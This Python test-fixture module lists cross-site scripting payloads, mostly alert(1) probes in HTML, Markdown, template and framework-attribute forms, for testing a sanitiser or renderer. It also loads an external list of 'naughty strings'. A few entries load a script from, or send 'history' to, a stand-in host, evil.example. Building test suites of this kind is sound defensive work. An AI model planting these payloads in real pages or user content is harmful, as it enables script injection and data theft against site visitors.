"""What people with bad intentions write: strings of our own, and the naughty ones of CAIRN_DATA where it is set."""

from __future__ import annotations

import json
import os
from pathlib import Path

# Whatever runs one of these calls alert(), which the tests listen for.
SCRIPTS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<a href='javascript:alert(1)'>x</a>", "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))", "[x](&#106;avascript:alert(1))", "[x](data:text/html,<script>alert(1)</script>)", "![x](x\"onerror=\"alert(1))",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>", "<details open ontoggle=alert(1)>", "<body onload=alert(1)>",
    "<form action='javascript:alert(1)'><button>x</button></form>", "<style>@import 'javascript:alert(1)';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>", "<input autofocus onfocus=alert(1)>", "\"><script>alert(1)</script>",
    "'-alert(1)-'", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "<!--><script>alert(1)</script>-->", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>", "<xmp><script>alert(1)</script></xmp>", "<object data='javascript:alert(1)'>",
    "<embed src='javascript:alert(1)'>", "<base href='javascript:alert(1)//'>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<p hx-on:click=alert(1) hx-get=/x hx-trigger=load>x</p>", "<p x-data x-init=alert(1)>x</p>", "<img src='//evil.example/x'>",
    "![x](https://evil.example/?q=history)", "<script src=//evil.example/x.js></script>", "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```", "<a href='vbscript:alert(1)'>x</a>", "<video><source onerror=alert(1)>",
]  # fmt: skip


def naughty() -> list[str]:
    """The big list where the data is there; what can't be stored (NUL) is left to tests of its own."""
    where = os.environ.get("CAIRN_DATA", "")
    file = Path(where) / "hostile" / "blns.json"
    listed = json.loads(file.read_text()) if where and file.is_file() else []
    return [text for text in listed if text and "\x00" not in text]


def hostile() -> list[str]:
    return [*SCRIPTS, *naughty()]


def some_hostile() -> list[str]:
    """All of our own and every eighth of the others, where each costs a request."""
    return [*SCRIPTS, *naughty()[::8]]
